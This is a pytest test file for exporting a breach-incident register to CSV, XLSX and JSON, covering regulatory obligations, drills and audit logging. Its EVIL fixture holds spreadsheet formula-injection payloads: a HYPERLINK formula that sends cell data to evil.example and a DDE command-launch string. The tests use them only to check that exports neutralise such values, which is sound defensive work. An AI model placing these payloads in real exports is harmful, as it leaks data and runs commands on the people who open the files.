from __future__ import annotations

import csv
import io
import json
import stat
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from proof_helpers import ALL_BY_EMAIL, prepared_incident, send_all
from smtp_sink import Sink

from incident_app.domain.clock import parse_time
from incident_app.domain.register import COLUMN_KEYS
from incident_app.services.container import Services
from incident_app.services.register.export import build_register, export_register, register_metrics
from incident_app.services.register.sources import records_from_assessment

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "discovered_by": "+86 138 0013 8000",
    "location": "\t=1+2",
}


def test_csv_neutralises_every_formula_cell(services: Services, intake: dict[str, object], tmp_path: Path) -> None:
    services.incidents.create(intake | EVIL)
    out = tmp_path / "register.csv"
    export_register(services, out, "csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese correctly
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[0][2] == "事件 Incident"  # titles in words, not column keys
    rows = [dict(zip(COLUMN_KEYS, line, strict=True)) for line in lines[1:]]
    assert rows[0]["title"] == "'" + EVIL["title"]
    assert rows[0]["summary"] == "'" + EVIL["summary"]
    assert rows[0]["discovered_by"] == "'+86 138 0013 8000"
    assert rows[0]["location"] == "'=1+2"  # intake strips the tab; the formula is still caught
    for row in rows:
        assert not any(v and v[0] in "=+-@\t\r" for v in row.values())


def test_xlsx_stores_formula_text_as_text(services: Services, intake: dict[str, object], tmp_path: Path) -> None:
    services.incidents.create(intake | EVIL)
    out = tmp_path / "register.xlsx"
    export_register(services, out, "xlsx")
    book = load_workbook(out)
    sheet = book["登记簿 Register"]
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("事件 Incident") + 1)
    assert title.value == "'" + EVIL["title"] and title.data_type == "s"
    cells = [c for row in book.worksheets for line in row.iter_rows() for c in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_json_keeps_the_text_exact(services: Services, intake: dict[str, object]) -> None:
    services.incidents.create(intake | EVIL)
    content, _ = export_register(services, None, "json")
    assert json.loads(content)["incidents"][0]["title"] == EVIL["title"]


def test_one_row_per_incident_drills_flagged_and_left_out_of_totals(
    services: Services, intake: dict[str, object]
) -> None:
    services.incidents.create(intake)
    services.incidents.create(intake | {"title": "演练 drill", "drill": True, "affected_people": 999_999})
    data = build_register(services)
    assert [r["drill"] for r in data.records] == [False, True]
    assert data.totals["incidents"] == 1 and data.totals["drills_excluded"] == 1
    assert data.totals["affected_people"] == 1200
    assert data.metrics.incidents == 1


def test_effects_decisions_grade_and_remediation_are_in_the_row(services: Services, intake: dict[str, object]) -> None:
    incident = services.incidents.create(intake | {"data_types": ["phone_number", "ip_address"]})
    services.decisions.record(incident.id, {"kind": "cac_grade_judgement", "rationale": "敏感信息但规模小",
                                            "decided_by": "王安全", "details": {"level": "一般"}})
    services.remediation.add(incident.id, [{"description": "关闭存储桶", "status": "done",
                                            "done_at": "2026-11-20T10:00:00"}])
    row = build_register(services).records[0]
    assert row["cac_grade"] == "一般" and row["cac_grade_needs_judgement"] is False
    # The policy's glossary lists network identity information (IP addresses) as sensitive.
    assert row["data_types"] == ["手机号码", "IP 地址"] and row["sensitive_data"] is True
    assert row["remediation"] == ["关闭存储桶（已完成）"]
    assert row["decisions"][0].startswith("事件分级判断（王安全，北京时间")  # words and Beijing time, no codes
    assert "敏感信息但规模小" in row["decisions"][0]


def decide(services: Services, incident_id: int, obligation_id: str, status: str, rationale: str,
           met_at: str | None = None) -> None:
    details = {"obligation_id": obligation_id, "status": status} | ({"met_at": met_at} if met_at else {})
    services.decisions.record(incident_id, {"kind": "obligation_status", "rationale": rationale,
                                            "decided_by": "王安全", "details": details})


def test_obligations_met_on_time_late_overdue_and_not_applicable_from_the_assessment(
    services: Services, intake: dict[str, object], clock: Any
) -> None:
    incident = services.incidents.create(intake | {"eu_subjects": 4})
    clock.now += timedelta(days=5)  # the CAC initial report (4 h from discovery) is now overdue
    # The decisions are recorded now, after the times they state (a met_at cannot lie ahead).
    decide(services, incident.id, "pipl57-regulator", "met", "报送省网信办（电话+书面）", "2026-11-20T11:00:00+08:00")
    # GDPR Art. 33: 72 hours from awareness (2026-11-20 09:30) -> due 2026-11-23 09:30.
    decide(services, incident.id, "gdpr33-authority", "met", "DPA portal was down for a day",
           "2026-11-24T10:00:00+08:00")
    decide(services, incident.id, "minors-report", "not_applicable", "三名儿童的号码系测试账号，已核实")
    row = build_register(services).records[0]
    assessment = services.assessment.assess(incident.id)
    assert row["obligations_total"] == len(assessment.obligations)
    assert (row["obligations_met_on_time"], row["obligations_met_late"]) == (1, 1)
    assert row["obligations_overdue"] >= 1 and row["obligations_not_applicable"] >= 1
    assert "gdpr33-authority：DPA portal was down for a day" in row["late_reasons"]
    assert "minors-report：三名儿童的号码系测试账号，已核实" in row["late_reasons"]
    assert "cac-initial-report：逾期未履行" in row["late_reasons"]
    assert not any(r.startswith("gdpr34-public") for r in row["late_reasons"])  # rule N/A: counted, not explained
    assert row["regulator_reported_at"] == "2026-11-20T11:00:00+08:00"
    assert row["cac_grade"] == assessment.grade.level.value and row["cac_grade_needs_judgement"] is True


def test_people_told_by_email_come_from_the_send_ledger(
    services: Services, intake: dict[str, object], tmp_path: Path, sink: Sink
) -> None:
    everyone = prepared_incident(services, intake, tmp_path)
    by_email = prepared_incident(services, intake | {"title": "all by e-mail"}, tmp_path, ALL_BY_EMAIL)
    before = build_register(services).records
    assert before[0]["pending_email"] == 5 and before[0]["individuals_notified_at"] is None
    send_all(services, everyone, sink.port)
    send_all(services, by_email, sink.port)
    rows = build_register(services).records
    assert (rows[0]["notified_email"], rows[0]["pending_email"], rows[0]["pending_sms"],
            rows[0]["announcement_people"]) == (5, 0, 1, 1)
    assert rows[0]["individuals_notified_at"] is not None
    # The SMS-only person keeps the notice obligations open until the officer records them done.
    individuals = {o.obligation_id: o for o in _outcomes(services, everyone)}
    assert individuals["pipl57-individuals"].met_at is None
    assert individuals["minors-guardians"].met_at is not None  # the only guardian was e-mailed
    done = {o.obligation_id: o for o in _outcomes(services, by_email)}
    last_sent = max(e.sent_at for e in services.mail.page(by_email) if e.sent_at)
    assert done["pipl57-individuals"].met_at == done["policy-notify-individuals"].met_at == last_sent
    assert rows[1]["obligations_met_on_time"] >= 3 and sink.count() == 10
    decide(services, everyone, "pipl57-individuals", "met", "短信网关已发送 1 条", "2026-11-20T11:30:00+08:00")
    assert {o.obligation_id: o for o in _outcomes(services, everyone)}["pipl57-individuals"].met_at is not None


def _outcomes(services: Services, incident_id: int) -> list[Any]:
    incident = services.incidents.get(incident_id)
    return list(records_from_assessment(services, [incident])[incident_id].outcomes)


def test_every_export_is_logged_with_where_it_went(
    services: Services, intake: dict[str, object], tmp_path: Path
) -> None:
    services.incidents.create(intake)
    export_register(services, tmp_path / "r.json", "json")
    export_register(services, None, "csv")
    exports = services.ctx.store.events.of_types(["export.written"])
    assert [(e.payload["what"], e.payload["format"], e.payload["count"]) for e in exports] == [
        ("register", "json", 1), ("register", "csv", 1)]
    assert exports[0].payload["where"] == str((tmp_path / "r.json").resolve())
    assert exports[1].payload["where"] == "stdout"
    assert exports[0].actor and services.audit.verify().ok


def test_unknown_format_is_refused(services: Services) -> None:
    with pytest.raises(ValueError, match="pdf"):
        export_register(services, None, "pdf")


def test_drill_activity_never_reaches_metrics_or_totals(
    services: Services, intake: dict[str, object], tmp_path: Path, sink: Sink
) -> None:
    services.incidents.create(intake | {"cause": "attack"})
    drill = prepared_incident(services, intake | {"title": "drill", "drill": True, "cause": "malware"}, tmp_path)
    decide(services, drill, "pipl57-regulator", "met", "演练：模拟报送", "2026-11-20T10:00:00+08:00")
    send_all(services, drill, sink.port)
    data = build_register(services)
    assert data.metrics.discovery_to_regulator_report.count == 0
    assert data.metrics.discovery_to_individual_notice.count == 0
    assert data.metrics.obligations_decided == 0 and data.metrics.on_time_share is None
    assert dict(data.metrics.causes)["malware"] == 0 and dict(data.metrics.causes)["attack"] == 1
    assert data.totals["notified_email"] == 0 and data.totals["incidents"] == 1
    assert data.totals["obligations_total"] == data.records[0]["obligations_total"]
    assert data.records[1]["notified_email"] == 5  # the drill's own row still shows what it did
    assert data.records[1]["regulator_reported_at"] == "2026-11-20T10:00:00+08:00"
    assert register_metrics(services) == data.metrics


def test_a_fulfilment_is_the_regulator_reported_milestone(services: Services, intake: dict[str, object]) -> None:
    incident = services.incidents.create(intake)
    f = services.fulfilments.record(incident.id, {"obligation_id": "cac-initial-report", "channel": "website_12387",
                                                  "done_at": "2026-11-20T11:10:00+08:00", "done_by": "王安全"})
    records = records_from_assessment(services, [incident])[incident.id]
    outcome = next(o for o in records.outcomes if o.obligation_id == "cac-initial-report")
    assert outcome.met_at == parse_time("2026-11-20T11:10:00+08:00")
    reported = [m.at for m in records.milestones if m.kind.value == "regulator_reported"]
    assert parse_time("2026-11-20T11:10:00+08:00") in reported
    services.corrections.correct(incident.id, "fulfilment", f.id, "filed for another incident", "王安全")
    records = records_from_assessment(services, [incident])[incident.id]
    assert next(o for o in records.outcomes if o.obligation_id == "cac-initial-report").met_at is None


def test_sheets_use_words_and_beijing_time_never_codes(services: Services, intake: dict[str, object],
                                                      tmp_path: Path) -> None:
    """CSV and XLSX are read by people: coded values in words, one time zone (Beijing, labelled in
    the header), no '[done]', 'contained', 'leak' or '+08:00'/'Z'."""
    incident = services.incidents.create(intake | {"discovered_at": "2026-11-20T01:00:00+00:00"})  # typed in UTC
    services.incidents.change_status(incident.id, incident.status.CONTAINED, "已下线")
    services.remediation.add(incident.id, [{"description": "关闭存储桶", "status": "done",
                                            "done_at": "2026-11-20T10:00:00"}])
    out = tmp_path / "register.csv"
    export_register(services, out, "csv")
    header, row = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))[:2]
    cells = dict(zip(COLUMN_KEYS, row, strict=True))
    assert "发现时间（北京时间） Discovered (Beijing time)" in header
    assert cells["discovered_at"] == "2026-11-20 09:00"  # 01:00 UTC is 09:00 in Beijing
    assert cells["status"] == "已控制 / Contained" and cells["breach_types"].startswith("泄露 / ")
    assert cells["remediation"] == "关闭存储桶（已完成）"
    recorded = ",".join(v for k, v in cells.items() if k not in ("title", "summary"))  # the officer's own text aside
    for code in ("[done]", "contained", "leak", "+08:00", "True", "False", "misconfiguration"):
        assert code not in recorded, code
    export_register(services, tmp_path / "register.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "register.xlsx")["登记簿 Register"]
    values = [c.value for c in sheet[2]]
    assert "已控制 / Contained" in values and "2026-11-20 09:00" in values
